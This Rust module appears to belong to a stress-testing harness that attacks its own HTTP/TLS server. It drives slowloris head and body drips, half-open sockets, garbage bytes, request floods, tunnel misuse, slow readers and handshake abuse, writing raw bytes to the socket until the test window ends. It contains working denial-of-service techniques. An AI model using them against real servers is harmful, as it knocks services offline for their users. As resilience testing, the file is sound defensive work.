//! The attacks. Each is written to the socket byte by byte: no library keeps its manners.

mod handshakes;
mod readers;
mod requests;
mod tunnels;

use std::net::IpAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{Instant, sleep, timeout_at};

use super::front::Front;
use crate::tls::AnySocket;
use handshakes::Handshake;
use readers::Pace;
use requests::Request;
use tunnels::Tunnel;

pub use readers::Answer;

/// Between two bytes of a slow one: well within what a server takes for a sign of life.
const DRIP: Duration = Duration::from_millis(200);
/// How long an attack is kept up that the server should end: longer than a register or a head may take.
const PATIENCE: Duration = Duration::from_secs(20);

/// One kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// A request's head, one byte at a time.
    SlowHead,
    /// A request's body, one byte at a time, without credentials.
    SlowBody,
    /// A socket that says nothing.
    HalfOpen,
    /// Bytes of another protocol.
    Garbage,
    /// Requests that the server has to refuse.
    Flood(Request),
    /// What a tunnel is not for.
    Tunnel(Tunnel),
    /// A large answer that is asked for and hardly read.
    SlowReader(Answer, Pace),
    /// What a server with TLS meets before any request.
    Handshake(Handshake),
}

impl Attack {
    /// Every kind that this server can be attacked with.
    pub fn all(with_tls: bool) -> Vec<Self> {
        let mut all = vec![Self::SlowHead, Self::SlowBody, Self::HalfOpen, Self::Garbage];
        all.extend(Request::ALL.map(Self::Flood));
        all.extend(Tunnel::ALL.map(Self::Tunnel));
        for answer in Answer::ALL {
            all.extend(Pace::ALL.map(|pace| Self::SlowReader(answer, pace)));
        }
        if with_tls {
            all.extend(Handshake::ALL.map(Self::Handshake));
        }
        all
    }

    /// For the report.
    pub fn name(self) -> String {
        match self {
            Self::SlowHead => "slow loris, head".to_owned(),
            Self::SlowBody => "slow loris, body".to_owned(),
            Self::HalfOpen => "half-open socket".to_owned(),
            Self::Garbage => "garbage".to_owned(),
            Self::Flood(request) => format!("flood, {}", request.name()),
            Self::Tunnel(tunnel) => format!("tunnel, {}", tunnel.name()),
            Self::SlowReader(answer, pace) => {
                format!("slow reader, {} {}", answer.name(), pace.name())
            }
            Self::Handshake(handshake) => format!("TLS, {}", handshake.name()),
        }
    }

    /// Again and again until it is over; how often it was begun.
    pub async fn repeat(self, front: &Front, from: IpAddr) -> u64 {
        let mut begun = 0;
        while !front.is_over() {
            begun += 1;
            let until = front.until().min(Instant::now() + PATIENCE);
            // That the server hangs up is what is wanted.
            let _ = timeout_at(until, self.once(front, from, begun)).await;
        }
        begun
    }

    async fn once(self, front: &Front, from: IpAddr, number: u64) -> std::io::Result<()> {
        match self {
            Self::SlowHead => {
                let mut stream = front.connect(from).await?;
                stream.write_all(b"GET /api/v1/agents HTTP/1.1\r\nhost: x\r\nx-slow: ").await?;
                drip(&mut stream).await
            }
            Self::SlowBody => {
                let mut stream = front.connect(from).await?;
                let head = "POST /api/v1/agents HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
                            content-length: 100000\r\n\r\n";
                stream.write_all(head.as_bytes()).await?;
                drip(&mut stream).await
            }
            Self::HalfOpen => hear_out(&mut front.connect_bare(from).await?).await,
            Self::Garbage => {
                let mut stream = front.connect(from).await?;
                stream.write_all(&noise(4096)).await?;
                hear_out(&mut stream).await
            }
            Self::Flood(request) => {
                let mut stream = front.connect(from).await?;
                stream.write_all(request.bytes(number).as_bytes()).await?;
                hear_out(&mut stream).await
            }
            Self::Tunnel(tunnel) => tunnel.once(&mut front.connect(from).await?, number).await,
            Self::SlowReader(answer, pace) => readers::once(front, from, answer, pace).await,
            Self::Handshake(handshake) => handshake.once(front, from, number).await,
        }
    }
}

/// Bytes that mean nothing.
fn noise(length: u32) -> Vec<u8> {
    (0..length).map(|n| (n * 31 % 251) as u8).collect()
}

/// One byte after the other, until the server has had enough.
async fn drip(stream: &mut AnySocket) -> std::io::Result<()> {
    loop {
        stream.write_all(b"x").await?;
        stream.flush().await?;
        sleep(DRIP).await;
    }
}

/// Reads until the server hangs up.
async fn hear_out(stream: &mut (impl tokio::io::AsyncRead + Unpin)) -> std::io::Result<()> {
    let mut sink = [0; 4096];
    while stream.read(&mut sink).await? > 0 {}
    Ok(())
}

/// Reads the head of an answer.
async fn read_head(stream: &mut AnySocket) -> std::io::Result<Vec<u8>> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await?);
    }
    Ok(head)
}

/// An end like any other. An attacker that took no for an answer would come back at once, and only that would be
/// measured.
async fn refused() -> std::io::Error {
    sleep(DRIP).await;
    std::io::Error::other("refused")
}
